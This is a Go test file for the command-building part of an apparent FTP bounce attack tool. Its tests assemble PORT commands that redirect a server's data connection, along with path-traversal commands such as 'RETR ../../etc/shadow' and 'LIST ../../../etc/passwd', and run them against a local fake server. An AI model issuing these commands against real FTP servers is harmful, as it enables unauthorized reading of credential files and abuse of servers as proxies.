package control

import (
	"context"
	"net"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"ftp_bounce/internal/ftptest"
	"ftp_bounce/models"
)

func TestPortArgument(t *testing.T) {
	arg, err := PortArgument("192.168.1.10", 1258)
	require.NoError(t, err)
	assert.Equal(t, "192,168,1,10,4,234", arg)

	arg, err = PortArgument("10.0.0.1", 21)
	require.NoError(t, err)
	assert.Equal(t, "10,0,0,1,0,21", arg)

	_, err = PortArgument("::1", 1258)
	assert.Error(t, err)
	_, err = PortArgument("10.0.0.1", 70000)
	assert.Error(t, err)
}

func TestTraversalPrefix(t *testing.T) {
	assert.Equal(t, "", TraversalPrefix(0))
	assert.Equal(t, "..", TraversalPrefix(1))
	assert.Equal(t, "../../..", TraversalPrefix(3))
}

func TestBuild(t *testing.T) {
	req := Request{
		Action:         models.ActionList,
		Target:         models.Target{RemoteHost: "10.0.0.2", ControlPort: 21, LocalHost: "10.0.0.1", BouncePort: 1258},
		User:           "anonymous",
		Password:       "pass",
		TraversalDepth: 3,
		Path:           "/etc/passwd",
	}
	cmds, err := Build(req)
	require.NoError(t, err)
	assert.Equal(t, []string{
		"USER anonymous",
		"PASS pass",
		"PORT 10,0,0,1,4,234",
		"LIST ../../../etc/passwd",
	}, cmds)

	req.Action = models.ActionDownload
	req.Path = "etc/shadow"
	req.TraversalDepth = 2
	cmds, err = Build(req)
	require.NoError(t, err)
	assert.Equal(t, "RETR ../../etc/shadow", cmds[3])

	req.Target.LocalHost = "not-an-ip"
	_, err = Build(req)
	assert.Error(t, err)
}

func TestRunReturnsLastResponse(t *testing.T) {
	srv, err := ftptest.NewServer(nil)
	require.NoError(t, err)
	defer srv.Close()

	seq := NewSequencer(2*time.Second, nil)
	resp, err := seq.Run(context.Background(), srv.Addr(), []string{"USER anonymous", "PASS pass", "RETR /missing"})
	require.NoError(t, err)
	assert.Equal(t, "550 Failed to open file.", string(resp))

	sessions := srv.Sessions()
	require.Len(t, sessions, 1)
	assert.Equal(t, []string{"USER anonymous", "PASS pass", "RETR /missing"}, sessions[0])
}

func TestRunFreshConnectionPerCall(t *testing.T) {
	srv, err := ftptest.NewServer(nil)
	require.NoError(t, err)
	defer srv.Close()

	seq := NewSequencer(2*time.Second, nil)
	for i := 0; i < 3; i++ {
		_, err := seq.Run(context.Background(), srv.Addr(), []string{"USER anonymous"})
		require.NoError(t, err)
	}
	assert.Len(t, srv.Sessions(), 3)
}

func TestRunBannerTimeout(t *testing.T) {
	srv := &ftptest.Server{Stall: 1}
	require.NoError(t, srv.Start())
	defer srv.Close()

	seq := NewSequencer(100*time.Millisecond, nil)
	start := time.Now()
	_, err := seq.Run(context.Background(), srv.Addr(), []string{"USER anonymous"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "reading banner")
	assert.True(t, time.Since(start) < 2*time.Second)
}

func TestRunConnectRefused(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	addr := ln.Addr().String()
	ln.Close()

	seq := NewSequencer(time.Second, nil)
	_, err = seq.Run(context.Background(), addr, []string{"USER anonymous"})
	assert.Error(t, err)
}

func TestRunNoCommands(t *testing.T) {
	seq := NewSequencer(time.Second, nil)
	_, err := seq.Run(context.Background(), "127.0.0.1:1", nil)
	assert.ErrorIs(t, err, ErrNoCommands)
}

func TestRunCancelled(t *testing.T) {
	srv := &ftptest.Server{Stall: 1}
	require.NoError(t, srv.Start())
	defer srv.Close()

	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(50*time.Millisecond, cancel)

	seq := NewSequencer(10*time.Second, nil)
	start := time.Now()
	_, err := seq.Run(ctx, srv.Addr(), []string{"USER anonymous"})
	assert.Error(t, err)
	assert.True(t, time.Since(start) < 5*time.Second)
}

func TestVerbOf(t *testing.T) {
	assert.Equal(t, "PASS", verbOf("PASS secret"))
	assert.Equal(t, "QUIT", verbOf("QUIT"))
}
